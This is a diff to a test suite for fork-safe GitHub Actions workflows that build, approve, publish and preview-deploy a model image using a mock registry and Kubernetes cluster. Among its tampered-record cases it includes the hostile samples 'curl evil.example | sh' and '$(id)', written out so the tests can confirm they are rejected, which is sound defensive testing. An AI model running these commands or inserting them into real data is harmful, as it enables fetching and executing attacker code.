@@ -1,11 +1,11 @@
 // workflows-examples/fork-safe-1.yml and fork-safe-2.yml: what a fork's run hands over, and what becomes of a hostile one.
 import { execFileSync } from "node:child_process";
-import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { createHash } from "node:crypto";
+import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
 import { homedir, tmpdir } from "node:os";
 import { join, resolve } from "node:path";
 import { afterAll, beforeAll, expect, test } from "vitest";
 
-import { openLayout } from "../../src/adapters/layout.ts";
 import { parseRecord, type ReleaseRecord } from "../../src/domain/record/record.ts";
 import { HOSTILE } from "../domain/report/hostile.ts";
 import { FILTERED, prose, render, tags } from "../domain/report/render.ts";
@@ -14,6 +14,9 @@ import { pullRequest } from "../runner/events.ts";
 import { startMachine, type Machine } from "../runner/machine.ts";
 import { runWorkflow, type RunResult } from "../runner/run-workflow.ts";
 import { startGitHub, type GitHub } from "../world/github-rest/github.ts";
+import { startApiServer, type ApiServer } from "../world/kubernetes/api-server.ts";
+import { operate } from "../world/kubernetes/small-operator.ts";
+import { startRegistry, type TestRegistry } from "../world/registry/registry.ts";
 
 const root = resolve(import.meta.dirname, "../..");
 const examples = join(root, "workflows-examples");
@@ -26,6 +29,8 @@ const MOST_CALLS = 15;
 let folder: string;
 let github: GitHub;
 let machine: Machine;
+let registry: TestRegistry;
+let cluster: ApiServer;
 let head: string;
 let tried: RunResult;
 let record: ReleaseRecord;
@@ -39,6 +44,10 @@ beforeAll(async () => {
     cpSync(join(examples, name), join(project, ".github/workflows", name));
   }
   github = await startGitHub({ owner: "acme", name: "digits" });
+  registry = await startRegistry();
+  cluster = await startApiServer();
+  operate(cluster);
+  cluster.onProxy = () => ({ status: 200, body: JSON.stringify({ data: { ndarray: [Array(10).fill(0.1)] } }) });
   machine = await startMachine({ root: join(folder, "machine"), toolCache: join(cache, "tools") });
   Object.assign(machine.environment, { OMP_NUM_THREADS: "1", OPENBLAS_NUM_THREADS: "1" });
   await github.commitFolder({ branch: "main", folder: project, message: "A model" });
@@ -52,15 +61,16 @@ beforeAll(async () => {
   record = parseRecord(outputsOf(tried, "image").record!);
 }, 600_000);
 afterAll(async () => {
-  await github.close();
+  await Promise.all([github.close(), registry.close(), cluster.close()]);
   rmSync(folder, { recursive: true, force: true });
 });
 
 const given = () => ({
   github,
   machine,
-  vars: { PREVIEW_IMAGE: `oci:${join(folder, "registry")}` },
-  secrets: { KUBECONFIG: "hunter2-hunter2" },
+  vars: { PREVIEW_IMAGE: `${registry.host}/digits-previews` },
+  secrets: { DEPLOY_KEY: "hunter2-hunter2" },
+  environments: { preview: { vars: { NAMESPACE: "previews" }, secrets: { KUBECONFIG: cluster.kubeconfig } } },
   repositories: { "model-road/model-road": root },
 });
 
@@ -75,13 +85,8 @@ const outputsOf = (result: RunResult, id: string): Record<string, string> =>
     .flatMap((job) => job.steps)
     .find((step) => step.id === id)?.outputs ?? {};
 const bodies = () => github.world.comments.map(({ body }) => body);
-const copied = () => {
-  try {
-    return readdirSync(join(folder, "registry/blobs/sha256")).length;
-  } catch {
-    return 0;
-  }
-};
+const copied = () => registry.manifests.get("digits-previews") ?? new Map<string, { bytes: Buffer }>();
+const previews = () => cluster.paths().filter((path) => path.includes("seldondeployments"));
 
 test("the fork's half trains, gates, builds and hands over, with no right to write", () => {
   expect(tried.conclusion, tried.log).toBe("success");
@@ -100,7 +105,7 @@ test("the trusted half comments once, says whose word it is, and copies nothing 
   expect(bodies()[0]).toContain("A stranger's word");
   expect(bodies()[0]).toContain("accuracy");
   expect(bodies()[0]).toContain(head.slice(0, 7));
-  expect(copied()).toBe(0);
+  expect(copied().size).toBe(0);
   expect(result.requests.length).toBeLessThanOrEqual(MOST_CALLS);
   const again = await told();
   expect(again.conclusion).toBe("success");
@@ -111,7 +116,7 @@ test("a label of someone who may not write approves nothing", async () => {
   const eve = { login: "eve", id: 77, type: "User" as const };
   const result = await labelled({ author: eve });
   expect(result.annotations.map(({ message }) => message).join("\n")).toMatch(/may not write to acme\/digits/);
-  expect(copied()).toBe(0);
+  expect(copied().size).toBe(0);
   await expect(labelled({ label: "documentation" }).then(({ jobs }) => jobs["publish"]?.conclusion)).resolves.toBe(
     "skipped",
   );
@@ -120,18 +125,23 @@ test("a label of someone who may not write approves nothing", async () => {
 test("a maintainer's label copies the very image, under a tag of its number and head", async () => {
   const result = await labelled();
   expect(result.conclusion, result.log).toBe("success");
-  const store = openLayout({ kind: "layout", folder: join(folder, "registry") });
-  expect(await store.head(`pr-7-${head.slice(0, 12)}`)).toBe(record.image!.digest);
-  for (const { digest } of record.image!.layers) expect(await store.hasBlob(digest)).toBe(true);
+  const tagged = copied().get(`pr-7-${head.slice(0, 12)}`)!;
+  expect(`sha256:${createHash("sha256").update(tagged.bytes).digest("hex")}`).toBe(record.image!.digest);
+  for (const { digest } of record.image!.layers) expect(registry.blobs.get("digits-previews")!.has(digest)).toBe(true);
   const { image, source, deployment } = parseRecord(result.jobs["publish"]!.outputs["record"]!);
-  expect(image?.repository).toBe(`oci:${join(folder, "registry")}`);
+  expect(image?.repository).toBe(`${registry.host}/digits-previews`);
   expect(source).toMatchObject({ sha: head, pullRequest: 7, event: "pull_request", runId: String(tried.runId) });
   expect(deployment).toBeUndefined();
+  // And that image is what the preview serves, in the stage's namespace, told to GitHub as a preview.
+  expect(previews()).toHaveLength(1);
+  expect(previews()[0]).toContain("/namespaces/previews/");
+  expect(JSON.stringify(cluster.get(previews()[0]!))).toContain(record.image!.digest);
+  expect(github.world.deployments).toMatchObject([{ environment: "preview", transient: true }]);
   expect(result.requests.length).toBeLessThanOrEqual(MOST_CALLS);
 });
 
 test("a reviewer of an environment approves as the label does", async () => {
-  rmSync(join(folder, "registry"), { recursive: true, force: true });
+  copied().clear();
   const text = readFileSync(join(examples, "fork-safe-2.yml"), "utf8")
     .replace("    name: Comment\n", "    name: Comment\n    environment: { name: previews, deployment: false }\n")
     .replace("take-over: digits\n", "take-over: digits\n          image: ${{ vars.PREVIEW_IMAGE }}\n");
@@ -144,12 +154,12 @@ test("a reviewer of an environment approves as the label does", async () => {
       event: workflowRun({ runId: tried.runId }),
     });
   expect((await run({})).jobs["comment"]?.conclusion).toBe("success");
-  expect(copied()).toBe(0);
+  expect(copied().size).toBe(0);
   expect((await run({ review: "rejected" })).conclusion).toBe("failure");
-  expect(copied()).toBe(0);
+  expect(copied().size).toBe(0);
   const approved = await run({ review: "approved" });
   expect(approved.conclusion, approved.log).toBe("success");
-  expect(copied()).toBeGreaterThan(2);
+  expect(copied().has(record.image!.digest)).toBe(true);
 });
 
 /** Puts another archive in place of what the run handed over, as code with the run's own token can. */
@@ -189,7 +199,7 @@ const LIES: Readonly<Record<string, readonly [() => Promise<() => void>, RegExp]
     only((r) => ({ ...r, source: { ...r.source, pullRequest: 4711 } })),
     /saw #4711/,
   ],
-  "no pull request": [only(({ source: { pullRequest: _, ...source }, ...r }) => ({ ...r, source })), /saw #0/],
+  "no pull request": [only((r) => ({ ...r, source: { ...r.source, pullRequest: undefined } })), /saw #0/],
   "a field that is not known": [only((r) => ({ ...r, command: "curl evil.example | sh" })), /command/],
   "a newer schema": [only((r) => ({ ...r, schema: 99 })), /schema 99/],
   "a text that is no record": [text("$(id)"), /JSON|record/],
